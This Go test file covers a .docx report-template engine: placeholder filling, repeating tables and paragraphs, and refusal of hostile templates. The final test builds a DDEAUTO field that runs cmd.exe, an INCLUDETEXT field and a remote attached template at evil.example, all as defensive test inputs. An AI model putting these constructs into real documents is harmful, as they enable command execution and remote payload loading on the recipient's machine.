package template_test

import (
	"fmt"
	"strings"
	"testing"

	"plumbline/internal/feature/report/template"
	"plumbline/internal/platform/errs"
)

const documentPart = "word/document.xml"

// document returns a document with a body of its XML, made from the one that comes with the product.
func document(t *testing.T, body string) []byte {
	t.Helper()
	for _, s := range template.Shipped() {
		if s.Format == "docx" {
			data, err := s.Bytes()
			if err != nil {
				t.Fatal(err)
			}
			text := part(t, data, documentPart)
			begin, end := strings.Index(text, "<w:body>")+8, strings.Index(text, "<w:sectPr>")
			return replaced(t, data, map[string]string{documentPart: text[:begin] + body + text[end:]})
		}
	}
	t.Fatal("no document")
	return nil
}

// paragraph returns a paragraph of runs; those that begin with * are bold.
func paragraph(runs ...string) string {
	var b strings.Builder
	b.WriteString("<w:p>")
	for _, r := range runs {
		text, bold := strings.CutPrefix(r, "*")
		b.WriteString("<w:r>")
		if bold {
			b.WriteString("<w:rPr><w:b/></w:rPr>")
		}
		b.WriteString(`<w:t xml:space="preserve">` + text + "</w:t></w:r>")
	}
	return b.String() + "</w:p>"
}

func table(rows ...[]string) string {
	var b strings.Builder
	b.WriteString("<w:tbl><w:tblPr/><w:tblGrid/>")
	for _, r := range rows {
		b.WriteString("<w:tr>")
		for _, c := range r {
			b.WriteString("<w:tc><w:tcPr/>" + paragraph(c) + "</w:tc>")
		}
		b.WriteString("</w:tr>")
	}
	return b.String() + "</w:tbl>"
}

func TestPlaceholdersThatWordSplits(t *testing.T) {
	data, _ := filled(t, document(t, paragraph("Of {", "*{project", "*.na", "me}", "} on {{report.date}}, {{unheard}}")), rich("en", 1))
	got := part(t, data, documentPart)
	for _, want := range []string{"Of 澄江路站深基坑", " on 2025-10-06, {{unheard}}"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in %s", want, got)
		}
	}
}

func TestTablesAndParagraphsRepeat(t *testing.T) {
	doc := document(t, paragraph("{{#measurements}}")+paragraph("{{measurement.name}}")+table([]string{"Point", "This"}, []string{"{{#points}}{{point}}", "{{this}}"}, []string{"{{#maxima}}{{of}}", "{{value}}"})+
		paragraph("{{chart profile}}")+paragraph("{{/measurements}}")+table([]string{"{{#alarms}} name", "{{level}}"})+paragraph("{{conclusion}}"))
	c, err := template.Check("a.docx", doc)
	if err != nil || c.Unrecognized != 0 {
		t.Fatalf("%+v, %v", c, err)
	}
	data, p := filled(t, doc, rich("en", 3))
	got := part(t, data, documentPart)
	for _, want := range []string{"CX-01", "CX-10", "SW-03", "Most positive", "No extreme values in this period", "No curve in this period", "red", `w:fill="FDE9E6"`, "<w:br/>"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in %s", want, got)
		}
	}
	if rows := strings.Count(got, "<w:tr>"); rows != 1+7+2+1+3+1+1 {
		t.Errorf("%d rows", rows)
	}
	if len(p.drawn) != 1 || !strings.HasPrefix(p.drawn[0], "curve CX-01 profile") {
		t.Errorf("drawn: %v", p.drawn)
	}
	places := fmt.Sprint(c.Places[0].Cell, " ", c.Places[2].Cell)
	if places != "P1 T1.A2" {
		t.Errorf("places %s", places)
	}
}

func TestHostileDocumentsAreRefused(t *testing.T) {
	field := func(parts ...string) string {
		text := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
		for _, p := range parts {
			text += `<w:r><w:instrText>` + p + `</w:instrText></w:r>`
		}
		return text + `<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	refusal(t, "a.docx", document(t, field(" DDE", "AUTO c:\\\\cmd.exe")), errs.TemplateField, "DDEAUTO", "P1")
	refusal(t, "a.docx", document(t, `<w:p><w:fldSimple w:instr=" INCLUDETEXT http://x "/></w:p>`), errs.TemplateField, "INCLUDETEXT")
	refusal(t, "a.docx", document(t, paragraph("{{#measurements}}")), errs.TemplateUnclosed, "P1")
	refusal(t, "a.docx", document(t, paragraph("{{#alarms}}{{name}}")), errs.TemplateUnclosed, "P1")
	refusal(t, "a.docx", document(t, table([]string{"a", "{{#project.name}}"})), errs.TemplateNoList, "T1.B1")
	refusal(t, "a.docx", document(t, paragraph("{{chart CX-1 5x5}}")), errs.TemplateImage, "P1")
	doc := document(t, paragraph("a"))
	attached := fmt.Sprintf(relation, "attachedTemplate", "http://evil.example/a.dotm", "External")
	refusal(t, "a.docx", edited(t, doc, "word/_rels/document.xml.rels", "</Relationships>", attached), errs.TemplateExternal, "evil.example")
	refusal(t, "a.xlsx", doc, errs.TemplateFormat)
	if _, err := template.Check("a.docx", document(t, field(" PAGE "))); err != nil {
		t.Errorf("a page number: %v", err)
	}
}
